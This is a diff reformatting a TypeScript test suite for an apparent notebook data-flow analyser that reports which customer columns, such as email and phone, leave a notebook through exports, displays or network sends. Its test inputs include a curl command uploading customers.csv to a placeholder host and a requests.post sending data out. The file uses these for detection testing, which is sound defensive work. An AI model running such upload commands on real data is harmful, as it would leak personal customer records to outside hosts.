@@ -6,28 +6,88 @@ const SCHEMA = { schemas: { 'customers.csv': ['id', 'email', 'phone', 'county', 
 
 const CASES: readonly (readonly [string, string, readonly string[]])[] = [
   ['an open frame is written whole', 'df.to_csv("out.csv")', ['export out.csv: customers.csv.*']],
-  ['dropped columns are gone', 'df.drop(columns=["email", "phone"]).to_csv("o.csv")', ['export o.csv: customers.csv.* but email phone']],
-  ['a drop that is not assigned does nothing', 'df.drop(columns=["email"])\ndf.to_csv("o.csv")', ['export o.csv: customers.csv.*']],
-  ['a drop in place does', 'df.drop(columns="email", inplace=True)\ndf.to_csv("o.csv")', ['export o.csv: customers.csv.* but email']],
+  [
+    'dropped columns are gone',
+    'df.drop(columns=["email", "phone"]).to_csv("o.csv")',
+    ['export o.csv: customers.csv.* but email phone'],
+  ],
+  [
+    'a drop that is not assigned does nothing',
+    'df.drop(columns=["email"])\ndf.to_csv("o.csv")',
+    ['export o.csv: customers.csv.*'],
+  ],
+  [
+    'a drop in place does',
+    'df.drop(columns="email", inplace=True)\ndf.to_csv("o.csv")',
+    ['export o.csv: customers.csv.* but email'],
+  ],
   ['chosen columns', 'df[["id", "email"]].to_csv("o.csv")', ['export o.csv: id, email']],
-  ['a comprehension that leaves names out', 'pii = ["email"]\ndf[[c for c in df.columns if c not in pii]].to_csv("o.csv")', ['export o.csv: customers.csv.* but email']],
-  ['a difference of names', 'df[df.columns.difference(["email"])].to_csv("o.csv")', ['export o.csv: customers.csv.* but email']],
-  ['a difference of sets', 'df[list(set(df.columns) - {"email"})].to_csv("o.csv")', ['export o.csv: customers.csv.* but email']],
+  [
+    'a comprehension that leaves names out',
+    'pii = ["email"]\ndf[[c for c in df.columns if c not in pii]].to_csv("o.csv")',
+    ['export o.csv: customers.csv.* but email'],
+  ],
+  [
+    'a difference of names',
+    'df[df.columns.difference(["email"])].to_csv("o.csv")',
+    ['export o.csv: customers.csv.* but email'],
+  ],
+  [
+    'a difference of sets',
+    'df[list(set(df.columns) - {"email"})].to_csv("o.csv")',
+    ['export o.csv: customers.csv.* but email'],
+  ],
   ['del', 'del df["email"]\ndf.to_csv("o.csv")', ['export o.csv: customers.csv.* but email']],
   ['pop', 'df.pop("email")\ndf.to_csv("o.csv")', ['export o.csv: customers.csv.* but email']],
-  ['a hash', 'import hashlib\ndf["email"] = df["email"].map(lambda x: hashlib.sha256(x.encode()).hexdigest())\ndf[["email"]].to_csv("o.csv")', ['export o.csv: email[hash]']],
-  ['a hash on one path only is none', 'import hashlib\nif debug:\n    pass\nelse:\n    df["email"] = df["email"].map(lambda x: hashlib.sha256(x.encode()).hexdigest())\ndf[["email"]].to_csv("o.csv")', ['export o.csv: email']],
-  ['an alias is the same object', 'other = df\nother.drop(columns="email", inplace=True)\ndf.to_csv("o.csv")', ['export o.csv: customers.csv.* but email']],
-  ['a text holds what it was made of', 's = df.to_csv()\nopen("o.txt", "w").write(s)', ['write o.txt', 'write o.txt: customers.csv.*']],
-  ['a loop over known files', 'for n in ["a", "b"]:\n    df[["id"]].to_csv(f"{n}.csv")', ['export a.csv: id', 'export b.csv: id']],
-  ['a function', 'def save(x, p):\n    x.to_csv(p)\nsave(df[["id"]], "o.csv")', ['export o.csv: id']],
+  [
+    'a hash',
+    'import hashlib\ndf["email"] = df["email"].map(lambda x: hashlib.sha256(x.encode()).hexdigest())\ndf[["email"]].to_csv("o.csv")',
+    ['export o.csv: email[hash]'],
+  ],
+  [
+    'a hash on one path only is none',
+    'import hashlib\nif debug:\n    pass\nelse:\n    df["email"] = df["email"].map(lambda x: hashlib.sha256(x.encode()).hexdigest())\ndf[["email"]].to_csv("o.csv")',
+    ['export o.csv: email'],
+  ],
+  [
+    'an alias is the same object',
+    'other = df\nother.drop(columns="email", inplace=True)\ndf.to_csv("o.csv")',
+    ['export o.csv: customers.csv.* but email'],
+  ],
+  [
+    'a text holds what it was made of',
+    's = df.to_csv()\nopen("o.txt", "w").write(s)',
+    ['write o.txt', 'write o.txt: customers.csv.*'],
+  ],
+  [
+    'a loop over known files',
+    'for n in ["a", "b"]:\n    df[["id"]].to_csv(f"{n}.csv")',
+    ['export a.csv: id', 'export b.csv: id'],
+  ],
+  [
+    'a function',
+    'def save(x, p):\n    x.to_csv(p)\nsave(df[["id"]], "o.csv")',
+    ['export o.csv: id'],
+  ],
   ['the last expression is shown', 'df[["id"]]', ['display: id']],
   ['not with a semicolon', 'df[["id"]];', []],
-  ['exec of constant text', 'exec("df[[\'id\']].to_csv(\'o.csv\')")', ['export o.csv: id']],
+  ['exec of constant text', "exec(\"df[['id']].to_csv('o.csv')\")", ['export o.csv: id']],
   ['getattr', 'getattr(df[["id"]], "to_" + "csv")("o.csv")', ['export o.csv: id']],
-  ['a request', 'import requests\nrequests.post("https://x.example/a?b=1", json=df[["id"]].to_dict())', ['send https://x.example/a: id']],
-  ['curl', '!curl -F f=@customers.csv https://x.example/up', ['send https://x.example/up: customers.csv.*']],
-  ['duckdb over a frame', 'import duckdb\nduckdb.sql("select email as e, id from df").df().to_csv("o.csv")', ['export o.csv: e, id']],
+  [
+    'a request',
+    'import requests\nrequests.post("https://x.example/a?b=1", json=df[["id"]].to_dict())',
+    ['send https://x.example/a: id'],
+  ],
+  [
+    'curl',
+    '!curl -F f=@customers.csv https://x.example/up',
+    ['send https://x.example/up: customers.csv.*'],
+  ],
+  [
+    'duckdb over a frame',
+    'import duckdb\nduckdb.sql("select email as e, id from df").df().to_csv("o.csv")',
+    ['export o.csv: e, id'],
+  ],
   ['a SQL magic over a frame', '%%sql\nselect email from df', ['display: email']],
 ];
 
@@ -40,9 +100,9 @@ describe('what leaves a notebook', () => {
 
 describe('with a known schema', () => {
   it('columns are closed', () => {
-    expect(operationsOf(`${READ}df.drop(columns=["email"]).to_csv("o.csv")`, ['export'], SCHEMA)).toEqual([
-      'export o.csv: id, phone, county, amount',
-    ]);
+    expect(
+      operationsOf(`${READ}df.drop(columns=["email"]).to_csv("o.csv")`, ['export'], SCHEMA),
+    ).toEqual(['export o.csv: id, phone, county, amount']);
   });
   it('a merge has suffixes', () => {
     const code = `${READ}a = df[["id", "email"]]\nb = df[["id", "email"]]\na.merge(b, on="id").to_csv("o.csv")`;
@@ -50,7 +110,9 @@ describe('with a known schema', () => {
   });
   it('a mean per group is aggregated, its key is not', () => {
     const code = `${READ}df.groupby("county")["amount"].mean().reset_index().to_csv("o.csv", index=False)`;
-    expect(operationsOf(code, ['export'], SCHEMA)).toEqual(['export o.csv: county, amount[aggregate]']);
+    expect(operationsOf(code, ['export'], SCHEMA)).toEqual([
+      'export o.csv: county, amount[aggregate]',
+    ]);
   });
 });
 
